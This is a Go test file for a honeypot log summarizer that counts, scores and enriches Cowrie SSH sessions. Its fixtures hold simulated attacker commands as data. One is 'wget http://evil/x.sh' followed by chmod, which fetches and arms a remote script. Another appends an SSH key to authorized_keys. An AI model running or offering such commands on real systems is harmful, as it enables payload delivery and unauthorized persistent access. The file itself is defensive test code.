package session

import (
	"context"
	"fmt"
	"log/slog"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"
	"github.com/stretchr/testify/require"

	"github.com/trapline-labs/trapline/internal/fileintel"
	"github.com/trapline-labs/trapline/internal/store"
)

type fakeEnricher struct {
	inventories map[string]*store.IPInventory
	err         error
	calls       int
}

func (f *fakeEnricher) EnrichIP(_ context.Context, ip string) (*store.IPInventory, error) {
	f.calls++
	if f.err != nil {
		return nil, f.err
	}
	inv, ok := f.inventories[ip]
	if !ok {
		return nil, fmt.Errorf("no inventory for %s", ip)
	}
	return inv, nil
}

func googleInventory(t *testing.T) *store.IPInventory {
	t.Helper()
	asn := uint(15169)
	inv := &store.IPInventory{
		IPAddress:  "8.8.8.8",
		CurrentASN: &asn,
		Enrichment: store.Enrichment{},
	}
	require.NoError(t, inv.Enrichment.Set(store.ProviderOfflineGeo, map[string]any{
		"country_code": "US", "asn": 15169,
	}))
	return inv
}

func newSummarizer(t *testing.T, mem *store.Memory, enricher Snapshotter, clock clockwork.Clock) *Summarizer {
	t.Helper()
	s, err := New(&Config{
		Logger:   slog.New(slog.DiscardHandler),
		Store:    mem,
		Enricher: enricher,
		Clock:    clock,
	})
	require.NoError(t, err)
	return s
}

type fakeKeys struct {
	n     int
	err   error
	calls int
}

func (f *fakeKeys) ProcessCommand(context.Context, string, string) (int, error) {
	f.calls++
	return f.n, f.err
}

type fakeFiles struct {
	result *fileintel.Result
	calls  int
}

func (f *fakeFiles) Lookup(context.Context, string) (*fileintel.Result, error) {
	f.calls++
	return f.result, nil
}

type fakePasswords struct {
	count   int64
	digests []string
}

func (f *fakePasswords) Prevalence(_ context.Context, sha1hex string) (int64, error) {
	f.digests = append(f.digests, sha1hex)
	return f.count, nil
}

func eventLine(session, eventid, srcIP string, ts time.Time, extra string) []byte {
	payload := fmt.Sprintf(`{"session":%q,"eventid":%q,"src_ip":%q,"timestamp":%q`,
		session, eventid, srcIP, ts.Format(time.RFC3339))
	if extra != "" {
		payload += "," + extra
	}
	return []byte(payload + "}")
}

func TestIngest_FirstEventSnapshotsSession(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	enricher := &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}}
	s := newSummarizer(t, mem, enricher, clock)

	ts := clock.Now().UTC()
	line := eventLine("abc123", EventConnect, "8.8.8.8", ts, "")
	require.NoError(t, s.Ingest(ctx, line, FilePosition{Path: "/var/log/cowrie/cowrie.json", Inode: 7, Offset: 0}))

	summary, err := mem.GetSessionSummary(ctx, "abc123")
	require.NoError(t, err)
	require.True(t, summary.HasSnapshot())
	require.Equal(t, uint(15169), *summary.SnapshotASN)
	require.Equal(t, "US", *summary.SnapshotCountry)
	require.Nil(t, summary.SnapshotIPType)
	require.Equal(t, 1, summary.EventCount)
	require.Equal(t, []string{"/var/log/cowrie/cowrie.json"}, summary.SourceFiles)
	require.Equal(t, 1, enricher.calls)
}

func TestIngest_SnapshotIsWriteOnce(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	enricher := &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}}
	s := newSummarizer(t, mem, enricher, clock)

	ts := clock.Now().UTC()
	require.NoError(t, s.Ingest(ctx, eventLine("abc123", EventConnect, "8.8.8.8", ts, ""),
		FilePosition{Path: "a.json", Inode: 7, Offset: 0}))

	// Inventory moves on; the frozen snapshot must not.
	other := uint(396982)
	enricher.inventories["8.8.8.8"].CurrentASN = &other

	require.NoError(t, s.Ingest(ctx, eventLine("abc123", EventCommand, "8.8.8.8", ts.Add(time.Minute), `"input":"uname -a"`),
		FilePosition{Path: "a.json", Inode: 7, Offset: 100}))

	summary, err := mem.GetSessionSummary(ctx, "abc123")
	require.NoError(t, err)
	require.Equal(t, uint(15169), *summary.SnapshotASN)
	require.Equal(t, 2, summary.EventCount)
	require.Equal(t, 1, summary.CommandCount)
	require.NotNil(t, summary.CommandSignature)
	require.Equal(t, 1, enricher.calls, "cascade runs once per session")
}

func TestIngest_DuplicateLineDropped(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	enricher := &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}}
	s := newSummarizer(t, mem, enricher, clock)

	line := eventLine("abc123", EventConnect, "8.8.8.8", clock.Now().UTC(), "")
	pos := FilePosition{Path: "a.json", Inode: 7, Offset: 0}
	require.NoError(t, s.Ingest(ctx, line, pos))
	require.NoError(t, s.Ingest(ctx, line, pos))

	summary, err := mem.GetSessionSummary(ctx, "abc123")
	require.NoError(t, err)
	require.Equal(t, 1, summary.EventCount)
}

func TestIngest_MalformedPayloadDeadLetters(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	s := newSummarizer(t, mem, &fakeEnricher{}, clock)

	err := s.Ingest(ctx, []byte(`{"eventid":"cowrie.session.connect"}`),
		FilePosition{Path: "a.json"})
	require.ErrorIs(t, err, ErrMalformedEvent)

	err = s.Ingest(ctx, []byte(`not json at all`), FilePosition{Path: "a.json"})
	require.ErrorIs(t, err, ErrMalformedEvent)

	dead := mem.DeadLetters()
	require.Len(t, dead, 2)
	require.Equal(t, "malformed-payload", dead[0].Reason)
}

func TestIngest_CounterSemantics(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	enricher := &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}}
	s := newSummarizer(t, mem, enricher, clock)

	ts := clock.Now().UTC()
	lines := []struct {
		eventid string
		extra   string
	}{
		{EventConnect, ""},
		{EventLoginFailed, `"username":"root","password":"123456"`},
		{EventLoginOK, `"username":"root","password":"password"`},
		{EventCommand, `"input":"wget http://evil/x.sh"`},
		{EventCommand, `"input":"chmod +x x.sh"`},
		{EventDownload, `"shasum":"deadbeef","url":"http://evil/x.sh"`},
		{EventFingerprint, `"fingerprint":"SHA256:aaa"`},
		{EventFingerprint, `"fingerprint":"SHA256:bbb"`},
		{EventClosed, ""},
	}
	for i, l := range lines {
		require.NoError(t, s.Ingest(ctx,
			eventLine("sess-x", l.eventid, "8.8.8.8", ts.Add(time.Duration(i)*time.Second), l.extra),
			FilePosition{Path: "a.json", Inode: 1, Offset: int64(i) * 100}))
	}

	summary, err := mem.GetSessionSummary(ctx, "sess-x")
	require.NoError(t, err)
	require.Equal(t, 9, summary.EventCount)
	require.Equal(t, 2, summary.LoginAttempts)
	require.Equal(t, 2, summary.CommandCount)
	require.Equal(t, 1, summary.DownloadCount)
	require.Equal(t, 2, summary.SSHKeyInjections)
	require.Equal(t, 2, summary.UniqueSSHKeys)
	require.Equal(t, "SHA256:aaa", *summary.SSHKeyFingerprint)
	// SHA-1 of "123456", the first password seen.
	require.Equal(t, "7C4A8D09CA3762AF61E59520943DC26494F8941B", *summary.PasswordHash)
	require.Equal(t, ts, summary.FirstEventAt)
	require.Equal(t, ts.Add(8*time.Second), summary.LastEventAt)
	require.Positive(t, summary.RiskScore)
}

func TestIngest_RepeatedFingerprintCountedOnce(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	enricher := &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}}
	s := newSummarizer(t, mem, enricher, clock)

	ts := clock.Now().UTC()
	fingerprints := []string{"SHA256:aaa", "SHA256:bbb", "SHA256:bbb", "SHA256:aaa"}
	require.NoError(t, s.Ingest(ctx, eventLine("sess-fp", EventConnect, "8.8.8.8", ts, ""),
		FilePosition{Path: "a.json", Inode: 1, Offset: 0}))
	for i, fp := range fingerprints {
		require.NoError(t, s.Ingest(ctx,
			eventLine("sess-fp", EventFingerprint, "8.8.8.8", ts.Add(time.Duration(i+1)*time.Second),
				fmt.Sprintf(`"fingerprint":%q`, fp)),
			FilePosition{Path: "a.json", Inode: 1, Offset: int64(i+1) * 100}))
	}

	summary, err := mem.GetSessionSummary(ctx, "sess-fp")
	require.NoError(t, err)
	require.Equal(t, 2, summary.UniqueSSHKeys, "repeats of an already-seen key do not count")
	require.Equal(t, 4, summary.SSHKeyInjections)
	require.Equal(t, "SHA256:aaa", *summary.SSHKeyFingerprint)
}

func TestIngest_CommandHookRecordsInjectedKeys(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	keys := &fakeKeys{n: 1}
	s, err := New(&Config{
		Logger:   slog.New(slog.DiscardHandler),
		Store:    mem,
		Enricher: &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}},
		Clock:    clock,
		SSHKeys:  keys,
	})
	require.NoError(t, err)

	ts := clock.Now().UTC()
	require.NoError(t, s.Ingest(ctx, eventLine("sess-k", EventConnect, "8.8.8.8", ts, ""),
		FilePosition{Path: "a.json", Inode: 1, Offset: 0}))
	require.NoError(t, s.Ingest(ctx,
		eventLine("sess-k", EventCommand, "8.8.8.8", ts.Add(time.Second),
			`"input":"echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys"`),
		FilePosition{Path: "a.json", Inode: 1, Offset: 100}))

	summary, err := mem.GetSessionSummary(ctx, "sess-k")
	require.NoError(t, err)
	require.Equal(t, 1, summary.SSHKeyInjections)
	require.Equal(t, 1, keys.calls, "only command events reach the recorder")

	// A failing recorder never fails ingest.
	keys.err = fmt.Errorf("store down")
	require.NoError(t, s.Ingest(ctx,
		eventLine("sess-k", EventCommand, "8.8.8.8", ts.Add(2*time.Second), `"input":"id"`),
		FilePosition{Path: "a.json", Inode: 1, Offset: 200}))
}

func TestIngest_DownloadHookFlagsMaliciousFile(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	files := &fakeFiles{result: &fileintel.Result{
		SHA256: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
		Known:  true, Classification: "malicious", Positives: 42, Total: 57,
	}}
	s, err := New(&Config{
		Logger:    slog.New(slog.DiscardHandler),
		Store:     mem,
		Enricher:  &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}},
		Clock:     clock,
		FileIntel: files,
	})
	require.NoError(t, err)

	ts := clock.Now().UTC()
	require.NoError(t, s.Ingest(ctx,
		eventLine("sess-d", EventDownload, "8.8.8.8", ts,
			`"shasum":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f","url":"http://evil/x.sh"`),
		FilePosition{Path: "a.json", Inode: 1, Offset: 0}))

	summary, err := mem.GetSessionSummary(ctx, "sess-d")
	require.NoError(t, err)
	require.True(t, summary.VTFlagged)
	require.True(t, summary.Enrichment.Has("file-intel"))
	require.GreaterOrEqual(t, summary.RiskScore, 15.0, "download base score plus verdict bump")
	require.Equal(t, 1, files.calls)
}

func TestIngest_LoginHookRecordsPrevalence(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	passwords := &fakePasswords{count: 42000000}
	s, err := New(&Config{
		Logger:    slog.New(slog.DiscardHandler),
		Store:     mem,
		Enricher:  &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}},
		Clock:     clock,
		Passwords: passwords,
	})
	require.NoError(t, err)

	ts := clock.Now().UTC()
	require.NoError(t, s.Ingest(ctx,
		eventLine("sess-p", EventLoginFailed, "8.8.8.8", ts, `"username":"root","password":"123456"`),
		FilePosition{Path: "a.json", Inode: 1, Offset: 0}))

	summary, err := mem.GetSessionSummary(ctx, "sess-p")
	require.NoError(t, err)
	require.True(t, summary.Enrichment.Has("password-intel"))
	require.Equal(t, []string{"7C4A8D09CA3762AF61E59520943DC26494F8941B"}, passwords.digests,
		"the enricher sees the digest, never the password")
}

func TestBackfillSnapshots(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	old := clock.Now().UTC().Add(-30 * 24 * time.Hour)

	bare := &store.SessionSummary{
		SessionID: "no-snap", FirstEventAt: old, LastEventAt: old,
		SourceIP: "8.8.8.8", Enrichment: store.Enrichment{}, UpdatedAt: old,
	}
	require.NoError(t, mem.InsertSessionSummary(ctx, bare))

	frozenASN := uint(4134)
	done := &store.SessionSummary{
		SessionID: "has-snap", FirstEventAt: old, LastEventAt: old,
		SourceIP: "8.8.8.8", Enrichment: store.Enrichment{},
		SnapshotASN: &frozenASN, EnrichmentAt: &old, UpdatedAt: old,
	}
	require.NoError(t, mem.InsertSessionSummary(ctx, done))

	enricher := &fakeEnricher{inventories: map[string]*store.IPInventory{"8.8.8.8": googleInventory(t)}}
	s := newSummarizer(t, mem, enricher, clock)

	patched, err := s.BackfillSnapshots(ctx, 10)
	require.NoError(t, err)
	require.Equal(t, 1, patched)
	require.Equal(t, 1, enricher.calls)

	got, err := mem.GetSessionSummary(ctx, "no-snap")
	require.NoError(t, err)
	require.True(t, got.HasSnapshot())
	require.Equal(t, uint(15169), *got.SnapshotASN)

	kept, err := mem.GetSessionSummary(ctx, "has-snap")
	require.NoError(t, err)
	require.Equal(t, uint(4134), *kept.SnapshotASN, "populated snapshots are skipped")
}

func TestBackfillSnapshots_CascadeFailureSkips(t *testing.T) {
	t.Parallel()

	ctx := context.Background()
	clock := clockwork.NewFakeClockAt(time.Date(2026, 8, 25, 12, 0, 0, 0, time.UTC))
	mem := store.NewMemory(clock)
	old := clock.Now().UTC().Add(-24 * time.Hour)

	require.NoError(t, mem.InsertSessionSummary(ctx, &store.SessionSummary{
		SessionID: "s1", FirstEventAt: old, LastEventAt: old,
		SourceIP: "203.0.113.1", Enrichment: store.Enrichment{}, UpdatedAt: old,
	}))

	s := newSummarizer(t, mem, &fakeEnricher{err: fmt.Errorf("providers down")}, clock)
	patched, err := s.BackfillSnapshots(ctx, 10)
	require.NoError(t, err)
	require.Zero(t, patched)

	got, err := mem.GetSessionSummary(ctx, "s1")
	require.NoError(t, err)
	require.False(t, got.HasSnapshot(), "row stays a candidate for the next run")
}
